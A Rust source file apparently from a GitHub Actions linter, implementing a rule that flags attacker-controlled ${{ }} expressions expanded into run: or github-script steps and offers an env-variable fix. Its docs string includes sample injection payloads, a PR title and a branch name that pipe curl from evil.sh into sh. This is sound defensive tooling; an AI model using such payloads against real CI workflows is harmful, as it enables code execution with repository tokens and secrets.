//! `actions/template-injection`: attacker-controlled `${{ … }}` expanded into the
//! text of a `run:` script or a `github-script` script.

use std::collections::HashMap;

use crate::finding::{Edit, Fix, Severity};
use crate::parse::yaml::{ScalarStyle, YamlFile, YamlNode};
use crate::workflows::wf::{self, Expr};
use crate::rules::{FileCx, Rule, RuleMeta, Sink};

/// See [`META`].
pub struct TemplateInjection;

/// Metadata and docs.
pub static META: RuleMeta = RuleMeta {
    id: "actions/template-injection",
    summary: "Attacker-controlled `${{ github.event.* }}`, `github.head_ref` or inputs expanded inside `run:`",
    severity: Severity::High,
    docs: r#"
## Why
`${{ … }}` is expanded by the runner *before* the shell sees the script: the
value becomes code. A pull request titled `a"; curl -sSf evil.sh | sh; echo "`
or a branch named `x$(curl${IFS}evil.sh|sh)` runs commands in the job, with
its token and secrets. Issue and comment bodies, PR titles and bodies, commit
messages and author names, head branch names, review bodies, wiki page names
are all chosen by whoever opens the issue or the pull request.

Severity: critical when the workflow runs on an event a stranger can trigger
with a privileged token (`pull_request_target`, `issue_comment`, `issues`,
`discussion`, `pull_request_review*`, `workflow_run`); high otherwise.
`inputs.*` of string type (workflow_dispatch, workflow_call, composite action
inputs) are reported at low: whoever sets them can usually run code anyway, but
the same habit turns into an injection when the input comes from an event.
Boolean, number, choice and environment inputs are not reported.
`actions/github-script`'s `script:` is checked too (the expansion becomes
JavaScript).

## Example
```yaml
on: issue_comment
jobs:
  triage:
    steps:
      - run: echo "New comment: ${{ github.event.comment.body }}"   # critical
```

## Fix
Pass the value through the environment and quote it; the shell then treats it
as data:
```yaml
      - env:
          COMMENT_BODY: ${{ github.event.comment.body }}
        run: echo "New comment: ${COMMENT_BODY}"
```
For `github.head_ref`, use the variable the runner already sets:
`"${GITHUB_HEAD_REF}"`. In `github-script`, read `process.env.X` or
`context.payload`. `harden fix` makes the env change for bash/sh steps when the
expression is a plain context reference outside single quotes (safe: only the
way the value reaches the shell changes).

zizmor's `template-injection` covers the same sinks; it also reports
`steps.*.outputs`, `env.*`, `github.ref_name` and user logins
(`github.event.comment.user.login`), which harden leaves out to stay quiet on
correct workflows: logins are limited to letters, digits and `-`, and a branch
name in `ref_name` comes from someone who can already push.
"#,
};

/// How dangerous a context reference is inside a script.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Taint {
    /// A workflow or action input of string type.
    Input,
    /// A field of the event payload (or the head branch) an outsider chooses.
    Event,
}

const EVENT_SUFFIXES: &[&str] = &[
    ".title",
    "display_title",
    ".body",
    ".message",
    ".page_name",
    ".email",
    "author.name",
    "committer.name",
    "head.ref",
    "head.label",
    "head.repo.name",
    "head.repo.full_name",
    "default_branch",
    "head_branch",
];

fn taint_of(r: &str, typed_inputs: &HashMap<String, String>) -> Option<Taint> {
    if r == "github.head_ref" {
        return Some(Taint::Event);
    }
    if let Some(rest) = r
        .strip_prefix("inputs.")
        .or_else(|| r.strip_prefix("github.event.inputs."))
    {
        let ty = typed_inputs
            .get(rest)
            .map(String::as_str)
            .unwrap_or("string");
        return (ty == "string").then_some(Taint::Input);
    }
    let rest = r.strip_prefix("github.event")?;
    if rest.is_empty() {
        // toJSON(github.event): the whole payload.
        return Some(Taint::Event);
    }
    if !rest.starts_with('.') {
        return None;
    }
    EVENT_SUFFIXES
        .iter()
        .any(|s| r.ends_with(s))
        .then_some(Taint::Event)
}

/// Input types declared under `on.workflow_dispatch.inputs` / `on.workflow_call.inputs`
/// (or a composite action's `inputs`, which are all strings).
fn input_types(root: &YamlNode) -> HashMap<String, String> {
    let mut m = HashMap::new();
    for trig in ["workflow_dispatch", "workflow_call"] {
        let inputs = root
            .get("on")
            .or_else(|| root.get("true"))
            .and_then(|on| on.get(trig))
            .and_then(|t| t.get("inputs"))
            .and_then(|i| i.as_map());
        for p in inputs.unwrap_or(&[]) {
            let ty = p
                .value
                .get("type")
                .and_then(|t| t.as_str())
                .unwrap_or("string");
            let e = m
                .entry(p.key.to_ascii_lowercase())
                .or_insert_with(|| ty.to_string());
            if ty == "string" {
                *e = "string".to_string();
            }
        }
    }
    m
}

/// Environment variable name for a context reference (`github.event.issue.title` → `ISSUE_TITLE`).
fn env_name(r: &str) -> String {
    let parts: Vec<&str> = r
        .split('.')
        .filter(|p| *p != "*" && *p != "github" && *p != "event")
        .collect();
    let tail = if parts.len() >= 2 {
        &parts[parts.len() - 2..]
    } else {
        &parts[..]
    };
    let mut name: String = tail
        .join("_")
        .chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() {
                c.to_ascii_uppercase()
            } else {
                '_'
            }
        })
        .collect();
    if name.is_empty()
        || name.starts_with(|c: char| c.is_ascii_digit())
        || name.starts_with("GITHUB_")
    {
        name.insert_str(0, "UNTRUSTED_");
    }
    name
}

/// Quote state of the shell text at `pos`: `None` inside single quotes, `Some(true)`
/// inside double quotes, `Some(false)` unquoted. A rough scan, enough to choose the fix.
fn quote_state(script: &str, pos: usize) -> Option<bool> {
    let mut single = false;
    let mut double = false;
    let mut escaped = false;
    for c in script.get(..pos).unwrap_or("").chars() {
        if escaped {
            escaped = false;
            continue;
        }
        match c {
            '\\' if !single => escaped = true,
            '\'' if !double => single = !single,
            '"' if !single => double = !double,
            '\n' if !single && !double => {}
            _ => {}
        }
    }
    if single {
        None
    } else {
        Some(double)
    }
}

struct StepCx<'a> {
    step: &'a YamlNode,
    script: &'a YamlNode,
    is_run: bool,
    bash_like: bool,
}

fn check_step(
    sc: &StepCx<'_>,
    external: bool,
    typed: &HashMap<String, String>,
    text: &str,
    out: &mut Sink<'_>,
) {
    let Some(scalar) = sc.script.as_scalar() else {
        return;
    };
    let exprs = wf::expressions(&scalar.mapped);
    for e in &exprs {
        let refs = wf::context_refs(&e.inner);
        let Some((r, taint)) = refs
            .iter()
            .filter_map(|r| taint_of(r, typed).map(|t| (r, t)))
            .max_by_key(|(_, t)| *t)
        else {
            continue;
        };
        let (severity, who) = match taint {
            Taint::Event if external => (
                Severity::Critical,
                "anyone who can open an issue, comment or pull request",
            ),
            Taint::Event => (
                Severity::High,
                "the author of the pull request, commit or branch",
            ),
            Taint::Input => (Severity::Low, "whoever supplies the input"),
        };
        let sink = if sc.is_run {
            "`run:` script"
        } else {
            "`github-script` script"
        };
        let var = if r == "github.head_ref" {
            "GITHUB_HEAD_REF".to_string()
        } else {
            env_name(r)
        };
        let message = format!(
            "`${{{{ {} }}}}` is pasted into the {sink} before it runs: {who} controls `{r}` and can inject code; pass it via `env:` and use \"${var}\"",
            e.inner
        );
        let fix = if sc.is_run && sc.bash_like && e.inner == *r {
            env_fix(sc, &exprs, &e.inner, &var, text)
        } else {
            None
        };
        let f = out.report(e.host.clone(), message);
        f.severity = severity;
        f.fix = fix;
    }
}

/// Replaces every `${{ r }}` of the step's script with `$VAR` and adds `VAR: ${{ r }}` to its `env:`.
fn env_fix(sc: &StepCx<'_>, exprs: &[Expr], inner: &str, var: &str, text: &str) -> Option<Fix> {
    let scalar = sc.script.as_scalar()?;
    if !matches!(
        scalar.style,
        ScalarStyle::Literal | ScalarStyle::Plain | ScalarStyle::Folded
    ) {
        return None;
    }
    let script = scalar.as_str();
    let mut edits: Vec<Edit> = Vec::new();
    for e in exprs.iter().filter(|e| e.inner == inner) {
        let quoted = quote_state(script, e.span.start)?;
        let repl = if quoted {
            format!("${{{var}}}")
        } else {
            format!("\"${{{var}}}\"")
        };
        if scalar.style != ScalarStyle::Literal && !quoted {
            // A plain scalar cannot start with `"` safely; keep to the simple cases.
            return None;
        }
        if !scalar.mapped.is_verbatim(&e.span) {
            return None;
        }
        edits.push(Edit {
            range: e.host.clone(),
            replacement: repl,
        });
    }
    if var != "GITHUB_HEAD_REF" {
        let nl = wf::eol(text);
        let line_start = |at: usize| text[..at].rfind('\n').map_or(0, |i| i + 1);
        let insert = match sc.step.pair("env") {
            Some(env) => {
                let first = env.value.as_map()?.first()?;
                if env.value.get(var).is_some() {
                    return None;
                }
                let ls = line_start(first.key_span.start);
                let indent = &text[ls..first.key_span.start];
                if !indent.chars().all(|c| c == ' ') {
                    return None;
                }
                Edit {
                    range: ls..ls,
                    replacement: format!("{indent}{var}: ${{{{ {inner} }}}}{nl}"),
                }
            }
            None => {
                let run = sc.step.pair("run")?;
                let ls = line_start(run.key_span.start);
                let prefix = &text[ls..run.key_span.start];
                let indent: String = if prefix.chars().all(|c| c == ' ') {
                    prefix.to_string()
                } else if prefix.trim_end().ends_with('-') && prefix.trim_start().starts_with('-') {
                    // `- run:` — the env key goes on its own line, before `run:`.
                    " ".repeat(prefix.len())
                } else {
                    return None;
                };
                if prefix.trim_start().starts_with('-') {
                    // Insert after the dash: `- env:\n    VAR: …\n  run:` keeps run in the same item.
                    Edit {
                        range: run.key_span.start..run.key_span.start,
                        replacement: format!(
                            "env:{nl}{indent}  {var}: ${{{{ {inner} }}}}{nl}{indent}"
                        ),
                    }
                } else {
                    Edit {
                        range: ls..ls,
                        replacement: format!(
                            "{indent}env:{nl}{indent}  {var}: ${{{{ {inner} }}}}{nl}"
                        ),
                    }
                }
            }
        };
        edits.push(insert);
    }
    Some(Fix::safe(
        format!("Pass `{inner}` through env as {var}"),
        edits,
    ))
}

fn bash_like(step: &YamlNode, job: Option<&YamlNode>) -> bool {
    let windows = job.and_then(|j| j.get("runs-on")).is_some_and(|r| {
        r.strings()
            .iter()
            .any(|s| s.to_ascii_lowercase().contains("windows"))
    });
    match step.get("shell").and_then(|s| s.as_str()) {
        Some(s) => matches!(s.split_whitespace().next(), Some("bash" | "sh")),
        None => !windows,
    }
}

fn check_steps<'a>(
    steps: impl Iterator<Item = (&'a YamlNode, Option<&'a YamlNode>)>,
    external: bool,
    typed: &HashMap<String, String>,
    text: &str,
    out: &mut Sink<'_>,
) {
    for (step, job) in steps {
        if let Some(run) = step.get("run") {
            let sc = StepCx {
                step,
                script: run,
                is_run: true,
                bash_like: bash_like(step, job),
            };
            check_step(&sc, external, typed, text, out);
        } else if wf::step_uses(step, "actions/github-script") {
            if let Some(script) = step.get("with").and_then(|w| w.get("script")) {
                let sc = StepCx {
                    step,
                    script,
                    is_run: false,
                    bash_like: false,
                };
                check_step(&sc, external, typed, text, out);
            }
        }
    }
}

impl Rule for TemplateInjection {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn check_workflow(&self, yaml: &YamlFile, cx: &FileCx<'_>, out: &mut Sink<'_>) {
        for root in wf::roots(yaml) {
            let external = wf::triggers(root).iter().any(|t| wf::external_trigger(t));
            let typed = input_types(root);
            let steps = wf::jobs(root)
                .iter()
                .flat_map(|j| wf::steps(&j.value).iter().map(move |s| (s, Some(&j.value))));
            check_steps(steps, external, &typed, &cx.file.text, out);
        }
    }

    fn check_action(&self, yaml: &YamlFile, cx: &FileCx<'_>, out: &mut Sink<'_>) {
        for root in wf::roots(yaml) {
            let typed = HashMap::new();
            let steps = wf::action_steps(root).iter().map(|s| (s, None));
            check_steps(steps, false, &typed, &cx.file.text, out);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn taints() {
        let typed: HashMap<String, String> =
            [("dry_run".to_string(), "boolean".to_string())].into();
        assert_eq!(
            taint_of("github.event.issue.title", &typed),
            Some(Taint::Event)
        );
        assert_eq!(
            taint_of("github.event.pull_request.head.ref", &typed),
            Some(Taint::Event)
        );
        assert_eq!(
            taint_of("github.event.commits.*.message", &typed),
            Some(Taint::Event)
        );
        assert_eq!(taint_of("github.head_ref", &typed), Some(Taint::Event));
        assert_eq!(taint_of("github.event.pull_request.number", &typed), None);
        assert_eq!(taint_of("github.event.pull_request.head.sha", &typed), None);
        assert_eq!(taint_of("github.sha", &typed), None);
        assert_eq!(taint_of("inputs.dry_run", &typed), None);
        assert_eq!(taint_of("inputs.version", &typed), Some(Taint::Input));
    }

    #[test]
    fn env_names_and_quotes() {
        assert_eq!(env_name("github.event.issue.title"), "ISSUE_TITLE");
        assert_eq!(env_name("github.event.pull_request.head.ref"), "HEAD_REF");
        assert_eq!(env_name("inputs.version"), "INPUTS_VERSION");
        assert_eq!(quote_state("echo \"a ", 7), Some(true));
        assert_eq!(quote_state("echo 'a ", 7), None);
        assert_eq!(quote_state("echo a ", 6), Some(false));
    }
}
